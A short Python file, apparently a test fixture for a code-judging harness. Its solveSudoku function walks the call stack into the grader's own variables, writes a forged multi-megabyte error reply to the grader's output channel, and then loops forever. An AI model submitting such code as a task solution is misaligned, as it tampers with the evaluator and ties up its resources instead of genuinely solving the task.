# A reply of its own for every request: megabytes of text, wide characters all of it.
import os
import sys


def solveSudoku(board):
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    number = frame.f_locals["request"]["id"]
    text = "\\ud83d\\ude00" + "a" * 3_900_000
    reply = '{"id":"%s","raised":{"type":"E","message":"%s"}}\n' % (number, text)
    reply = reply.encode()
    while reply:
        reply = reply[os.write(frame.f_locals["replies"], reply) :]
    while True:
        pass
